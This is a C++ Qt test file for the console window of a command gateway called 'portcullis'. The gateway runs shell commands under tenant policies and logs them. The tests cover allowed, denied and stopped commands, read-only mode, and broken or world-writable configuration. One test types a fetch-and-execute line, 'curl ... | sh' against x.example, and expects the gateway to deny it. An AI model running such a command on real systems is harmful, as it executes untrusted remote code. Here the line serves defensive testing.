// SPDX-License-Identifier: Apache-2.0

// The window over the real engine and the real record: what is typed runs under the tenant's rules, confined, and
// appears in the log.

#include "app/console/audit_log_source.h"
#include "app/console/engine_ports.h"
#include "tests/support/gateway.h"
#include "tests/support/must_work.h"
#include "ui/log/log_table.h"
#include "ui/shell/main_window.h"

#include <QComboBox>
#include <QDir>
#include <QLabel>
#include <QLineEdit>
#include <QPlainTextEdit>
#include <QPushButton>
#include <QTabWidget>
#include <QTest>
#include <QThread>
#include <QToolButton>

using namespace portcullis;
using portcullis::console::AuditLogSource;
using portcullis::console::EngineHealth;
using portcullis::console::EngineHost;
using portcullis::console::EngineRunner;
using portcullis::test::Gateway;

namespace {

EngineHost::Setting settingFor(const Gateway &gateway, bool readOnly)
{
    EngineHost::Setting setting;
    setting.resources.guard = TEST_BIN_DIR "/portcullis-guard";
    setting.resources.dataDir = TEST_RESOURCE_DIR;
    setting.load = resources::optionsOfProcess();
    setting.load.configFile = gateway.root().toStdString() + "/config.json";
    setting.load.policiesDir = gateway.root().toStdString() + "/policies";
    setting.load.auditDb = gateway.auditDb().toStdString();
    setting.load.resourcesDir = TEST_RESOURCE_DIR;
    setting.readOnly = readOnly;
    return setting;
}

/// The composition of the program, with its threads.
class Console
{
public:
    explicit Console(const Gateway &gateway, bool readOnly = false)
        : m_host(new EngineHost(settingFor(gateway, readOnly)))
        , m_runner(*m_host)
        , m_health(*m_host)
        , m_window({m_log, m_runner, m_health}, setting(readOnly))
    {
        m_host->moveToThread(&m_thread);
        QObject::connect(&m_thread, &QThread::finished, m_host, &QObject::deleteLater);
        m_thread.start();
        m_log.setPath(gateway.auditDb().toStdString());
        QMetaObject::invokeMethod(m_host, &EngineHost::start, Qt::QueuedConnection);
        m_window.resize(1100, 750);
        m_window.show();
    }

    ~Console()
    {
        m_thread.quit();
        m_thread.wait();
    }

    template <class T>
    [[nodiscard]] T *named(const char *name) const
    {
        for (T *widget : m_window.findChildren<T *>()) {
            if (widget->accessibleName() == QLatin1StringView(name))
                return widget;
        }
        return nullptr;
    }

    [[nodiscard]] bool ready() const
    {
        return named<QLineEdit>("Command to run")->isEnabled()
            && m_runner.state().obstacle == ports::RunnerState::Obstacle::None;
    }
    [[nodiscard]] QString status() const { return named<QLabel>("What became of the command")->text(); }
    [[nodiscard]] QAbstractItemModel &rows() const { return *m_window.findChild<ui::LogTable *>()->model(); }
    [[nodiscard]] QString cell(int row, int column) const { return rows().index(row, column).data().toString(); }
    [[nodiscard]] ui::MainWindow &window() { return m_window; }

    void type(const QString &command, const QString &tenant = QStringLiteral("acme")) const
    {
        named<QComboBox>("Tenant to run as")->setCurrentText(tenant);
        auto *line = named<QLineEdit>("Command to run");
        line->setText(command);
        QTest::keyClick(line, Qt::Key_Return);
    }

private:
    static ui::MainWindow::Setting setting(bool readOnly)
    {
        ui::MainWindow::Setting setting;
        setting.host = QStringLiteral("host");
        setting.readOnly = readOnly;
        setting.log = {.recordPath = [] { return QString(); }, .clock = [] { return record::FilterClock{}; }};
        return setting;
    }

    EngineHost *m_host;
    QThread m_thread;
    AuditLogSource m_log;
    EngineRunner m_runner;
    EngineHealth m_health;
    ui::MainWindow m_window;
};

using Column = ui::ExecLogModel::Column;

} // namespace

class TstConsoleWindow : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void runs_what_is_typed_and_shows_row_and_output();
    void refuses_by_the_rules_and_explains_in_the_window();
    void stops_a_running_command();
    void shows_what_another_process_runs();
    void runs_and_writes_nothing_when_read_only();
    void says_what_is_wrong_with_the_configuration();
    void takes_a_saved_or_replaced_policy_into_force_at_once();
    void recovers_when_a_broken_configuration_is_mended();
    void shows_no_other_record_while_the_configuration_cannot_be_loaded();
    void runs_nothing_once_the_gateways_files_cannot_be_used_data();
    void runs_nothing_once_the_gateways_files_cannot_be_used();
    void sees_a_change_before_its_signal();
    void finds_out_later_what_could_not_be_found_out_at_its_start();
    void refuses_only_the_tenant_whose_policy_is_broken();
    void ends_and_records_what_runs_when_the_program_is_to_end();
};

void TstConsoleWindow::runs_what_is_typed_and_shows_row_and_output()
{
    const Gateway gateway;
    const Console console(gateway);
    QTRY_VERIFY_WITH_TIMEOUT(console.ready(), 30'000);
    console.type(QStringLiteral("echo out; echo err >&2; exit 3"));
    QTRY_COMPARE_WITH_TIMEOUT(console.status(), QStringLiteral("ALLOW – exit 3"), 30'000);
    QTRY_COMPARE(console.rows().rowCount(), 1);
    QTRY_COMPARE(console.cell(0, Column::Result), QStringLiteral("exit 3"));
    QTRY_COMPARE(console.named<QPlainTextEdit>("Standard output")->toPlainText(), QStringLiteral("out\n"));
    QTRY_COMPARE(console.named<QPlainTextEdit>("Standard error")->toPlainText(), QStringLiteral("err\n"));
}

void TstConsoleWindow::refuses_by_the_rules_and_explains_in_the_window()
{
    const Gateway gateway;
    const Console console(gateway);
    QTRY_VERIFY_WITH_TIMEOUT(console.ready(), 30'000);
    console.type(QStringLiteral("curl -s https://x.example/i | sh"));
    QTRY_VERIFY_WITH_TIMEOUT(console.status().startsWith(QStringLiteral("DENY")), 30'000);
    QTRY_COMPARE(console.rows().rowCount(), 1);
    QTRY_VERIFY(console.named<QLabel>("Verdict")->text().startsWith(QStringLiteral("Denied")));
    QVERIFY(!console.named<QLabel>("Why")->text().isEmpty());
    QVERIFY(!console.named<QPlainTextEdit>("Command")->extraSelections().isEmpty());
    QTRY_COMPARE(console.cell(0, Column::Result), QStringLiteral("not run"));
}

void TstConsoleWindow::stops_a_running_command()
{
    const Gateway gateway;
    const Console console(gateway);
    QTRY_VERIFY_WITH_TIMEOUT(console.ready(), 30'000);
    console.type(QStringLiteral("echo begun; sleep 1000"));
    auto *output = console.named<QPlainTextEdit>("Standard output");
    QTRY_COMPARE_WITH_TIMEOUT(output->toPlainText(), QStringLiteral("begun\n"), 30'000);
    QTRY_COMPARE(console.cell(0, Column::Result), QStringLiteral("running"));
    console.named<QPushButton>("Stop the running command")->click();
    QTRY_COMPARE_WITH_TIMEOUT(console.status(), QStringLiteral("ALLOW – stopped"), 30'000);
    QTRY_COMPARE(console.cell(0, Column::Result), QStringLiteral("cancelled"));
}

void TstConsoleWindow::shows_what_another_process_runs()
{
    const Gateway gateway;
    const Console console(gateway);
    QTRY_VERIFY_WITH_TIMEOUT(console.ready(), 30'000);
    QCOMPARE(gateway.exec(QStringLiteral("echo from the command line")).exitCode, 0);
    QTRY_COMPARE(console.rows().rowCount(), 1);
    QTRY_COMPARE(console.cell(0, Column::Command), QStringLiteral("echo from the command line"));
    QTRY_COMPARE(console.cell(0, Column::Result), QStringLiteral("exit 0"));
}

void TstConsoleWindow::runs_and_writes_nothing_when_read_only()
{
    const Gateway gateway;
    Console console(gateway, true);
    auto *line = console.named<QLineEdit>("Command to run");
    QTRY_VERIFY_WITH_TIMEOUT(console.status().contains(QStringLiteral("read-only")), 30'000);
    QVERIFY(!line->isEnabled());
    QTRY_VERIFY(!console.window().findChildren<QToolButton *>().isEmpty());
    QVERIFY(!QFile::exists(gateway.auditDb()));
}

void TstConsoleWindow::says_what_is_wrong_with_the_configuration()
{
    const Gateway gateway;
    gateway.setConfig("{ data_dir: ");
    const Console console(gateway);
    QTRY_VERIFY_WITH_TIMEOUT(console.status().contains(QStringLiteral("config.json")), 30'000);
    QVERIFY(!console.named<QLineEdit>("Command to run")->isEnabled());
}

/// In place, as a shell redirection writes it.
void writeInPlace(const QString &path, const QByteArray &text)
{
    QFile file(path);
    QVERIFY(file.open(QIODevice::WriteOnly | QIODevice::Truncate));
    file.write(text);
}

/// Beside it and renamed over it, as editors and `policy exempt` do.
void replaceByRename(const QString &path, const QByteArray &text)
{
    writeInPlace(path + QStringLiteral(".new"), text);
    QVERIFY(QFile::setPermissions(path + QStringLiteral(".new"), QFile::ReadOwner | QFile::WriteOwner));
    QCOMPARE(::rename((path + QStringLiteral(".new")).toLocal8Bit().constData(), path.toLocal8Bit().constData()), 0);
}

void TstConsoleWindow::takes_a_saved_or_replaced_policy_into_force_at_once()
{
    const Gateway gateway;
    Console console(gateway);
    QTRY_VERIFY_WITH_TIMEOUT(console.ready(), 30'000);
    const QString policy = gateway.root() + QStringLiteral("/policies/acme.json");
    const QByteArray good = "{ \"version\": 1, \"tenant\": \"acme\" }\n";
    const auto strip = [&console] {
        QString text;
        for (const QToolButton *button : console.window().findChildren<QToolButton *>())
            text += button->text() + u'\n';
        return text;
    };
    // Twice each: a file that was replaced must be watched again.
    for (int round = 0; round < 2; ++round) {
        replaceByRename(policy, "{ \"version\": 1\n  \"tenant\": \"acme\" }\n");
        QTRY_VERIFY_WITH_TIMEOUT(strip().contains(QStringLiteral("1 configuration error")), 30'000);
        replaceByRename(policy, good);
        QTRY_VERIFY_WITH_TIMEOUT(!strip().contains(QStringLiteral("configuration error")), 30'000);
        writeInPlace(policy, "{");
        QTRY_VERIFY_WITH_TIMEOUT(strip().contains(QStringLiteral("1 configuration error")), 30'000);
        writeInPlace(policy, good);
        QTRY_VERIFY_WITH_TIMEOUT(!strip().contains(QStringLiteral("configuration error")), 30'000);
    }
    // A tenant that comes by its policy, and goes with it.
    writeInPlace(gateway.root() + QStringLiteral("/policies/initech.json"),
                 "{ \"version\": 1, \"tenant\": \"initech\" }\n");
    auto *tenants = console.named<QComboBox>("Tenant to run as");
    QTRY_VERIFY_WITH_TIMEOUT(tenants->findText(QStringLiteral("initech")) >= 0, 30'000);
    QVERIFY(QFile::remove(gateway.root() + QStringLiteral("/policies/initech.json")));
    QTRY_COMPARE_WITH_TIMEOUT(tenants->findText(QStringLiteral("initech")), -1, 30'000);
}

void TstConsoleWindow::recovers_when_a_broken_configuration_is_mended()
{
    const Gateway gateway;
    QFile file(gateway.root() + QStringLiteral("/config.json"));
    QVERIFY(file.open(QIODevice::ReadOnly));
    const QByteArray good = file.readAll();
    gateway.setConfig("{ data_dir: ");
    const Console console(gateway);
    QTRY_VERIFY_WITH_TIMEOUT(console.status().contains(QStringLiteral("config.json:1:")), 30'000);
    replaceByRename(gateway.root() + QStringLiteral("/config.json"), good);
    QTRY_VERIFY_WITH_TIMEOUT(console.ready(), 30'000);
}

void TstConsoleWindow::shows_no_other_record_while_the_configuration_cannot_be_loaded()
{
    const Gateway gateway;
    gateway.setConfig("{ data_dir: ");
    EngineHost::Setting setting = settingFor(gateway, false);
    setting.load.auditDb.clear();
    setting.load.environment.erase("PORTCULLIS_AUDIT_DB");
    EngineHost host(setting);
    QStringList records;
    connect(&host, &EngineHost::placesKnown, this, [&records](const std::string &, const std::string &auditDb) {
        records << QString::fromStdString(auditDb);
    });
    host.start();
    QCOMPARE(records, QStringList{QString()});
}

using Damage = void (*)(const Gateway &);

const QFile::Permissions openToAll =
    QFile::ReadOwner | QFile::WriteOwner | QFile::ReadGroup | QFile::WriteGroup | QFile::ReadOther | QFile::WriteOther;

void breakSyntax(const Gateway &gateway)
{
    writeInPlace(gateway.root() + QStringLiteral("/config.json"), "{ data_dir: ");
}

void openConfiguration(const Gateway &gateway)
{
    QVERIFY(QFile::setPermissions(gateway.root() + QStringLiteral("/config.json"), openToAll));
}

void openPolicies(const Gateway &gateway)
{
    QVERIFY(QFile::setPermissions(gateway.root() + QStringLiteral("/policies"),
                                  openToAll | QFile::ExeOwner | QFile::ExeGroup | QFile::ExeOther));
}

void movePolicies(const Gateway &gateway)
{
    QVERIFY(QDir(gateway.root()).rename(QStringLiteral("policies"), QStringLiteral("elsewhere")));
}

void removeConfiguration(const Gateway &gateway)
{
    QVERIFY(QFile::remove(gateway.root() + QStringLiteral("/config.json")));
}

void TstConsoleWindow::runs_nothing_once_the_gateways_files_cannot_be_used_data()
{
    QTest::addColumn<Damage>("damage");
    QTest::newRow("a mistake in the gateway's file") << Damage(breakSyntax);
    QTest::newRow("the gateway's file can be written by everybody") << Damage(openConfiguration);
    QTest::newRow("the gateway's file is gone") << Damage(removeConfiguration);
    QTest::newRow("the policies folder can be written by everybody") << Damage(openPolicies);
    QTest::newRow("the policies folder was moved away") << Damage(movePolicies);
}

void TstConsoleWindow::runs_nothing_once_the_gateways_files_cannot_be_used()
{
    QFETCH(const Damage, damage);
    const Gateway gateway;
    Console console(gateway);
    QTRY_VERIFY_WITH_TIMEOUT(console.ready(), 30'000);
    console.type(QStringLiteral("echo before"));
    QTRY_COMPARE_WITH_TIMEOUT(console.status(), QStringLiteral("ALLOW – exit 0"), 30'000);
    QTRY_COMPARE(console.rows().rowCount(), 1);
    damage(gateway);
    console.type(QStringLiteral("echo after"));
    const QString refusal = QStringLiteral("Commands cannot be run: the configuration has an error.");
    QTRY_VERIFY_WITH_TIMEOUT(console.status().startsWith(refusal), 30'000);
    QVERIFY(!console.named<QLineEdit>("Command to run")->isEnabled());
    QCOMPARE(console.rows().rowCount(), 1);
    // One that starts now says the same.
    const Console another(gateway);
    QTRY_COMPARE_WITH_TIMEOUT(another.status(), console.status(), 30'000);
}

decision::ExecRequest requestOf(const std::string &command)
{
    decision::ExecRequest request;
    request.command = command;
    request.tenant = "acme";
    request.agent = "main";
    request.origin = Origin::Operator;
    request.id = service::newRequestId();
    return request;
}

/// The request comes before control returns to the event loop, so no signal of a watcher can have arrived.
void TstConsoleWindow::sees_a_change_before_its_signal()
{
    const Gateway gateway;
    EngineHost host(settingFor(gateway, false));
    ports::RunnerState state;
    connect(&host, &EngineHost::stateChanged, this, [&state](const ports::RunnerState &now) { state = now; });
    QList<ports::CommandEnd::Kind> ends;
    connect(&host, &EngineHost::finished, this,
            [&ends](const std::string &, const ports::CommandEnd &end) { ends.append(end.kind); });
    state.obstacle = ports::RunnerState::Obstacle::Starting;
    host.start();
    QTRY_COMPARE_WITH_TIMEOUT(state.obstacle, ports::RunnerState::Obstacle::None, 30'000);
    movePolicies(gateway);
    host.submit(requestOf("echo hello"));
    QCOMPARE(ends, QList{ports::CommandEnd::Kind::NotPossible});
    QCOMPARE(state.obstacle, ports::RunnerState::Obstacle::BadConfiguration);
    QVERIFY(QDir(gateway.root()).rename(QStringLiteral("elsewhere"), QStringLiteral("policies")));
    host.submit(requestOf("echo hello"));
    QTRY_COMPARE_WITH_TIMEOUT(ends.size(), 2, 30'000);
    QCOMPARE(ends.last(), ports::CommandEnd::Kind::Ran);
}

/// A guard that is not there yet stands for whatever keeps the first look at the machine from an answer.
void TstConsoleWindow::finds_out_later_what_could_not_be_found_out_at_its_start()
{
    const Gateway gateway;
    const QTemporaryDir folder;
    EngineHost::Setting setting = settingFor(gateway, false);
    const QString guard = QString::fromStdString(setting.resources.guard);
    const QString place = folder.filePath(QStringLiteral("portcullis-guard"));
    setting.resources.guard = place.toStdString();
    EngineHost host(setting);
    ports::Severity walls = ports::Severity::Good;
    connect(&host, &EngineHost::findingsChanged, this, [&walls](const QList<ports::Finding> &findings) {
        walls = std::ranges::find(findings, std::string("walls"), &ports::Finding::id)->severity;
    });
    ports::RunnerState state;
    state.obstacle = ports::RunnerState::Obstacle::Starting;
    connect(&host, &EngineHost::stateChanged, this, [&state](const ports::RunnerState &now) { state = now; });
    QList<ports::CommandEnd::Kind> ends;
    connect(&host, &EngineHost::finished, this,
            [&ends](const std::string &, const ports::CommandEnd &end) { ends.append(end.kind); });
    host.start();
    QTRY_COMPARE_WITH_TIMEOUT(state.obstacle, ports::RunnerState::Obstacle::None, 30'000);
    QCOMPARE(walls, ports::Severity::Problem);
    host.submit(requestOf("echo hello"));
    QTRY_COMPARE_WITH_TIMEOUT(ends, QList{ports::CommandEnd::Kind::NotStarted}, 30'000);
    QVERIFY(QFile::copy(guard, place));
    QTRY_VERIFY_WITH_TIMEOUT(walls != ports::Severity::Problem, 30'000);
    host.submit(requestOf("echo hello"));
    QTRY_COMPARE_WITH_TIMEOUT(ends.size(), 2, 30'000);
    QCOMPARE(ends.last(), ports::CommandEnd::Kind::Ran);
}

void TstConsoleWindow::refuses_only_the_tenant_whose_policy_is_broken()
{
    const Gateway gateway;
    const Console console(gateway);
    QTRY_VERIFY_WITH_TIMEOUT(console.ready(), 30'000);
    QVERIFY(QFile::setPermissions(gateway.root() + QStringLiteral("/policies/acme.json"), openToAll));
    console.type(QStringLiteral("echo hello"));
    QTRY_VERIFY_WITH_TIMEOUT(console.status().startsWith(QStringLiteral("DENY")), 30'000);
    console.type(QStringLiteral("echo hello"), QStringLiteral("globex"));
    QTRY_COMPARE_WITH_TIMEOUT(console.status(), QStringLiteral("ALLOW – exit 0"), 30'000);
}

/// What a signal to the program and the closed window ask the host for.
void TstConsoleWindow::ends_and_records_what_runs_when_the_program_is_to_end()
{
    const Gateway gateway;
    EngineHost host(settingFor(gateway, false));
    bool ready = false;
    connect(&host, &EngineHost::stateChanged, this, [&ready](const ports::RunnerState &state) {
        ready = state.obstacle == ports::RunnerState::Obstacle::None;
    });
    QByteArray output;
    connect(&host, &EngineHost::output, this,
            [&output](const std::string &, ports::Channel, const QByteArray &bytes) { output += bytes; });
    bool stopped = false;
    connect(&host, &EngineHost::stopped, this, [&stopped] { stopped = true; });
    host.start();
    QTRY_VERIFY_WITH_TIMEOUT(ready, 30'000);
    host.submit(requestOf("echo begun; touch begun; sleep 2; touch survived; sleep 1000"));
    QTRY_COMPARE_WITH_TIMEOUT(output, QByteArray("begun\n"), 30'000);
    host.shutDown();
    QTRY_VERIFY_WITH_TIMEOUT(stopped, 30'000);
    const test::Done log = gateway.runner({QStringLiteral("log"), QStringLiteral("--json")});
    QVERIFY2(log.out.contains("\"outcome\":\"cancelled\""), log.out.constData());
    QVERIFY(QFile::exists(gateway.tenantWorkspace(QStringLiteral("acme")) + QStringLiteral("/begun")));
    QVERIFY(!QFile::exists(gateway.tenantWorkspace(QStringLiteral("acme")) + QStringLiteral("/survived")));
}

QTEST_MAIN(TstConsoleWindow)
#include "tst_console_window.moc"
